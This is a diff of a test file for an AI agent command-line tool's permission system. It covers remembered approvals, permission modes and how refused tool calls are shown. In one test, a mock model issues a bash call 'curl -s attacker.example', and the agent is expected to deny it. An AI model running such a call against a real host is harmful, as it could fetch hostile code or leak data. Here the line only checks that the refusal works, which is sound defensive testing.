@@ -1,10 +1,14 @@
 // The approval box in the real binary under tmux: yes once, yes and don't ask again (the next
 // identical call runs without asking, the rule is saved and listed), and no with a reason that
-// reaches the model. Shift+Tab cycles the mode shown in the status line.
+// reaches the model. Shift+Tab cycles the mode shown in the status line. A remembered approval
+// lasts into later runs; a resumed session shows a refused call as refused; plan mode's refusal
+// points to Shift+Tab.
+import { execFileSync } from "node:child_process";
 import { existsSync, readdirSync, readFileSync } from "node:fs";
 import path from "node:path";
 import { afterEach, beforeAll, describe, expect, it } from "vitest";
-import { binPath, makeTempHome, type TempHome } from "../support/cli.js";
+import { sessionIdFrom } from "../e2e/helpers.js";
+import { binPath, makeTempHome, runAgenix, type TempHome } from "../support/cli.js";
 import { type LlmServer, startLlmServer } from "../support/llm-server.js";
 import { startAgenixInTmux, type TmuxPane, waitUntil } from "./tmux.js";
 
@@ -73,11 +77,10 @@ describe("approval box in tmux", () => {
       ["c2", false],
       ["c3", false],
     ]);
-    const local = JSON.parse(readFileSync(path.join(home.workDir, ".agenix", "settings.local.json"), "utf8"));
-    expect(local.permissions.allow).toEqual(["bash(touch *)"]);
-    expect(readFileSync(path.join(home.workDir, ".agenix", ".gitignore"), "utf8")).toContain(
-      "settings.local.json",
-    );
+    // Saved in the user's own approvals, keyed by the project; nothing in the project's folder.
+    const approvals = JSON.parse(readFileSync(path.join(home.home, ".agenix", "approvals.json"), "utf8"));
+    expect(approvals.projects).toEqual({ [home.workDir]: { allow: ["bash(touch *)"] } });
+    expect(existsSync(path.join(home.workDir, ".agenix"))).toBe(false);
 
     p.type("n");
     await p.waitFor("Reason for the model");
@@ -92,7 +95,7 @@ describe("approval box in tmux", () => {
     p.type("/permissions");
     p.keys("Enter");
     screen = await p.waitFor("Permission mode: default");
-    expect(screen).toMatch(/allow\s+bash\(touch \*\)\s+remembered/);
+    expect(screen).toMatch(/allow\s+bash\(touch \*\)\s+remembered \(~\/\.agenix\/approvals\.json\)/);
 
     p.keys("BTab");
     await p.waitFor("mode: accept-edits");
@@ -100,5 +103,93 @@ describe("approval box in tmux", () => {
     await p.waitFor("mode: plan");
     p.keys("BTab");
     await p.waitFor("mode: default (shift+tab)");
+  });
+
+  it("a remembered approval lasts: the next interactive run and print mode run it, no trust question", async () => {
+    server = await startLlmServer([
+      { toolCalls: [call("c1", "touch first.txt")] },
+      { text: "First done." },
+      { toolCalls: [call("c2", "touch second.txt")] },
+      { text: "Second done." },
+      { toolCalls: [call("c3", "touch third.txt")] },
+      { text: "Third done." },
+    ]);
+    home = await makeTempHome();
+    execFileSync("git", ["init", "-q", home.workDir]);
+    home.env.OPENAI_BASE_URL = server.openaiBaseUrl;
+    home.env.OPENAI_API_KEY = "sk-test-not-a-real-key";
+    let p = startAgenixInTmux({ env: home.env, cwd: home.workDir, home: home.home });
+    pane = p;
+    await p.waitFor("/help for commands");
+    p.type("make the first file");
+    p.keys("Enter");
+    await p.waitFor("$ touch first.txt");
+    p.type("a");
+    await p.waitFor("First done.");
+    expect(existsSync(path.join(home.workDir, "first.txt"))).toBe(true);
+    p.kill();
+
+    // A new interactive run: no trust question, no approval box, the command runs.
+    p = startAgenixInTmux({ env: home.env, cwd: home.workDir, home: home.home });
+    pane = p;
+    let screen = await p.waitFor("/help for commands");
+    expect(screen).not.toContain("Trust this folder");
+    p.type("make the second file");
+    p.keys("Enter");
+    screen = await p.waitFor("Second done.");
+    expect(existsSync(path.join(home.workDir, "second.txt"))).toBe(true);
+    expect(screen).not.toContain("Allow bash?");
+    p.kill();
+
+    // Print mode applies it too, without the untrusted-project notice.
+    const result = await runAgenix(["make the third file"], { cwd: home.workDir, env: home.env });
+    expect(result.code, result.stderr).toBe(0);
+    expect(result.stderr).not.toMatch(/Untrusted project|Denied/);
+    expect(existsSync(path.join(home.workDir, "third.txt"))).toBe(true);
+  });
+});
+
+async function setup(replies: Parameters<typeof startLlmServer>[0]) {
+  server = await startLlmServer(replies);
+  home = await makeTempHome();
+  home.env.OPENAI_BASE_URL = server.openaiBaseUrl;
+  home.env.OPENAI_API_KEY = "sk-test-not-a-real-key";
+}
+
+describe("refusals in interactive mode", () => {
+  it("a resumed session shows a refused call as refused, not as the lines of its result", async () => {
+    await setup([
+      { toolCalls: [{ id: "c1", name: "bash", arguments: { command: "curl -s attacker.example" } }] },
+      { text: "I could not fetch it." },
+    ]);
+    const printed = await runAgenix(["fetch it"], { cwd: home.workDir, env: home.env });
+    expect(printed.code, printed.stderr).toBe(0);
+    const id = sessionIdFrom(printed.stderr);
+    pane = startAgenixInTmux({ env: home.env, cwd: home.workDir, home: home.home, args: ["--session", id] });
+    const screen = await pane.waitFor("I could not fetch it.");
+    expect(screen).toContain("⎿ Denied: bash(curl -s attacker.example) (");
+    expect(screen).not.toMatch(/⎿ \d+ lines/);
+  });
+
+  it("plan mode: a refused write points to Shift+Tab", async () => {
+    await setup([
+      { toolCalls: [{ id: "c1", name: "write", arguments: { file_path: "notes.md", content: "x\n" } }] },
+      { text: "Planned only." },
+    ]);
+    pane = startAgenixInTmux({
+      env: home.env,
+      cwd: home.workDir,
+      home: home.home,
+      args: ["--permission-mode", "plan"],
+    });
+    await pane.waitFor("/help for commands");
+    pane.type("write the notes");
+    pane.keys("Enter");
+    const screen = await pane.waitFor("Planned only.");
+    expect(screen).toMatch(
+      /Denied: write\(notes\.md\) \(plan mode is read-only: files are not changed; Shift\+Tab to switch to\s+accept-edits mode\)/,
+    );
+    expect(screen).not.toContain("--permission-mode accept-edits");
+    expect(existsSync(path.join(home.workDir, "notes.md"))).toBe(false);
   });
 });
